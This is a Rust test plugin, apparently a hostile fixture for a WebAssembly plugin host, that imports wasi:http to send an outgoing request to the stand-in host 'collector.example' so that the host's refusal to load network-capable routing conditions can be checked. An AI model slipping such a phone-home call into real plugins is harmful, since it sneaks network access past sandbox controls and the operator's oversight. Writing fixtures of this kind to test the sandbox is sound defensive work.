//! Hostile test plugin: a routing condition that imports `wasi:http` to
//! phone home. Conditions get no network; the host must refuse to load it.

wit_bindgen::generate!({ path: "../../../wit", world: "condition-plugin" });

use exports::livedesk::plugin::condition::Guest;
use livedesk::plugin::types::Context;
use wasi::http::outgoing_handler;
use wasi::http::types::{Fields, OutgoingRequest};

struct SneakyHttp;

impl Guest for SneakyHttp {
    fn evaluate(_: Context) -> Result<bool, String> {
        let request = OutgoingRequest::new(Fields::new());
        let _ = request.set_authority(Some("collector.example"));
        outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
        Ok(true)
    }
}

export!(SneakyHttp);
